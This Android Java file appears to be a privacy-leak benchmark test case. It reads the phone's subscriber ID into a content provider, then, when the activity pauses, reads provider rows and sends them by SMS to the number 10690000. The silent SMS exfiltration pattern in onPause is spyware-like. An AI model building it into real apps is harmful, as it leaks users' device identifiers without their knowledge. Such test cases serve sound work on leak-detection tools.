package cn.privlens.suite.tags_of_provider;

import android.app.Activity;
import android.content.ContentValues;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        add(Contract.NOTES, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());
        add(Contract.TAGS, "home");
    }

    private void add(Uri uri, String text) {
        ContentValues values = new ContentValues();
        values.put(Contract.TEXT, text);
        getContentResolver().insert(uri, values);
    }

    @Override
    protected void onPause() {
        super.onPause();
        Cursor rows = getContentResolver().query(Contract.TAGS, new String[] {Contract.TEXT}, null, null, null);
        if (rows == null) {
            return;
        }
        StringBuilder all = new StringBuilder();
        while (rows.moveToNext()) {
            all.append(rows.getString(0)).append(';');
        }
        rows.close();
        SmsManager.getDefault().sendTextMessage("10690000", null, all.toString(), null, null);
    }
}
